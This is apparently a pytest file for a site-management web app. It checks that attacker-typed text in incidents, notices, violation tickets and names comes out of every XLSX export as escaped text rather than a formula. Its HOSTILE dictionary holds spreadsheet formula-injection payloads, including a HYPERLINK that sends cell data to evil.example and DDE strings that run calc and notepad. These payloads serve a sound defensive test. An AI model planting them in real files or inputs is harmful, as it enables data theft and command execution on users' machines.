"""Hostile texts typed by staff (an incident, a violation, a notice, a checkpoint's and a person's name) come out of
every XLSX the app writes as plain text, never as a formula; and the app makes workbooks in one place only."""
from __future__ import annotations

import io
import re
import uuid
from datetime import timedelta
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select

from tests.conftest import FIXED_NOW, csrf_from, sign_in
from tests.scorecards.conftest import cleaning
from webapp.extensions import db
from webapp.models import GeneratedReport, Incident, IncidentKind, RectificationNotice, Severity, ViolationTicket
from webapp.spreadsheets import RISKY_STARTS

HOSTILE = {
    "incident": '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "violation": "+cmd|' /C calc'!A0",
    "notice": "-2+3+cmd|' /C notepad'!A0",
    "checkpoint": "@SUM(1+1)*cmd|' /C calc'!A0",
    "person": "=1+1\x01王",  # a control character an XLSX cannot hold, too
    "area": "\t=2+2",
}
WEBAPP = Path(__file__).resolve().parents[2] / "webapp"


def hostile_world(world):
    """The world's guard, checkpoint, area, an incident, a notice and a violation ticket, all named by an attacker."""
    guard, site = world.people["guard"], world.site_a
    guard.name = HOSTILE["person"]
    world.checkpoint_a.name = HOSTILE["checkpoint"]
    world.checkpoint_a.area.name = HOSTILE["area"]
    at = FIXED_NOW - timedelta(days=1)
    db.session.add(Incident(client_uuid=uuid.uuid4(), site_id=site.id, person_id=guard.id, device_time=at, captured_at=at,
                            received_at=at, kind=IncidentKind.LEAK, severity=Severity.HIGH,
                            description=HOSTILE["incident"], checkpoint_id=world.checkpoint_a.id))
    db.session.commit()
    cleaning(world.people["cleaner"], world.checkpoint_a, at, passed=False)  # lists the checkpoint and its area
    db.session.commit()
    world.scan(world.checkpoint_a, guard, at)
    ids = world.quality_records(guard, site, at=at)
    db.session.get(RectificationNotice, ids["notice"]).description = HOSTILE["notice"]
    db.session.get(ViolationTicket, ids["violation"]).description = HOSTILE["violation"]
    db.session.commit()


def every_export(app, world) -> dict[str, bytes]:
    """Every XLSX a manager (and the client, for a released report) can download for November at site A."""
    app.config["ROUNDS_NOW"] = FIXED_NOW
    a = world.site_a.id
    manager = app.test_client()
    sign_in(manager, "manager")
    files = {
        "report": manager.get(f"/sites/{a}/reports.xlsx?period=month&date=2026-11-01"),
        "group report": manager.get(f"/reports/group.xlsx?sites={a}&period=month&date=2026-11-01"),
        "scorecards": manager.get(f"/sites/{a}/scorecards.xlsx?month=2026-11"),
    }
    token = csrf_from(manager.get(f"/sites/{a}/generated-reports").get_data(as_text=True))
    for kind in ("monthly_summary", "meeting_pack"):
        assert manager.post(f"/sites/{a}/generated-reports", data={"csrf_token": token, "kind": kind,
                                                                  "date": "2026-11-01"}).status_code == 303
        report = db.session.scalar(select(GeneratedReport).where(GeneratedReport.kind == kind))
        assert report.state == "ready", report.error
        files[kind] = manager.get(f"/sites/{a}/generated-reports/{report.id}.xlsx")
        assert manager.post(f"/sites/{a}/generated-reports/{report.id}/release",
                            data={"csrf_token": token}).status_code == 303
        client = app.test_client()
        sign_in(client, "client")
        files[f"{kind} (client)"] = client.get(f"/portal/sites/{a}/reports/{report.id}.xlsx")
    for name, answer in files.items():
        assert answer.status_code == 200, (name, answer.status_code)
    return {name: answer.data for name, answer in files.items()}


def texts(data: bytes) -> list:
    """Every cell of a workbook holding text: (sheet, coordinate, value, data type, quote prefix)."""
    book = load_workbook(io.BytesIO(data))
    return [(sheet.title, cell.coordinate, cell.value, cell.data_type, cell.quotePrefix)
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


def test_hostile_texts_come_out_of_every_export_as_text_never_as_a_formula(app, world):
    hostile_world(world)
    seen = set()
    for name, data in every_export(app, world).items():
        for sheet, where, value, data_type, quoted in texts(data):
            assert data_type != "f", f"{name}: {sheet}!{where} is a formula: {value!r}"
            if value.startswith(RISKY_STARTS):
                assert quoted, f"{name}: {sheet}!{where} may be taken for a formula when edited: {value!r}"
            seen |= {key for key, text in HOSTILE.items() if text.replace("\x01", "") in value}
    assert seen == set(HOSTILE)  # every hostile text reached some export: the check above looked at them


def test_workbooks_are_made_and_saved_only_through_webapp_spreadsheets():
    """One place neutralises: no other module of the app builds or saves an openpyxl workbook itself."""
    offenders = []
    for path in WEBAPP.rglob("*.py"):
        if path.name == "spreadsheets.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"from openpyxl import .*Workbook|openpyxl\.Workbook\(|book\.save\(", source):
            offenders.append(str(path.relative_to(WEBAPP)))
    assert offenders == []
